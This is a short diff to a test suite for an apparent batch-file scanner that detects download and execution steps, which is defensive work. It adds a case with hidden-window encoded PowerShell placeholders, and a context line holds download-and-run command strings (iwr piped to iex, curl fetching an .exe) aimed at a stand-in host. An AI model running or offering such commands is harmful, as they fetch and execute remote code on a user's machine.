@@ -89,6 +89,13 @@ describe('downloads and execution', () => {
     }
   });
 
+  it('reads a placeholder after -enc as nothing hidden', async () => {
+    for (const word of ['BASE64_PAYLOAD', 'PAYLOADHERE', '<YOUR_BASE64_HERE>']) {
+      const r = await bat(`@echo off\nstart /b powershell -nop -w hidden -enc ${word}\n`);
+      expect(ofKind(r, 'execute'), word).toEqual([]);
+    }
+  });
+
   it('embeds powershell -Command text and cmd /c text', async () => {
     const r = await bat(
       'powershell -ExecutionPolicy Bypass -Command "iwr https://x.test | iex"\ncmd /c "curl -o a.exe https://x.test/a.exe"\n',
